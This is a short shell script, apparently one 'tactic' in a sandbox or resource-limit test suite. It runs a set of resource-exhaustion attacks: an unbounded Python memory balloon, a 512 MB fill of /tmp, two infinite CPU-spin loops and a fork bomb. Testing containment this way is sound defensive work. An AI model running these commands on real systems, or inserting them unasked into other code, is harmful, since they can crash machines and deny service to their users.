# Tactic 21: exhaustion: memory balloon, disk fill of /tmp, CPU spin, PID exhaustion.
source ./lib.sh
hb main
(/usr/bin/python3 -c "
x = []
while True: x.append(bytearray(16 << 20))" 2>/dev/null; echo "balloon ended" >> "$W/attempts.log") &
sleep 1
attempt fill-tmp dd if=/dev/zero of=/tmp/fill bs=1M count=512
rm -f /tmp/fill
(while true; do :; done) &
(while true; do :; done) &
bomb() { bomb | bomb & }
(bomb) 2>/dev/null &
sleep 1
: > "$W/ready"
while true; do sleep 0.2 2>/dev/null || :; done
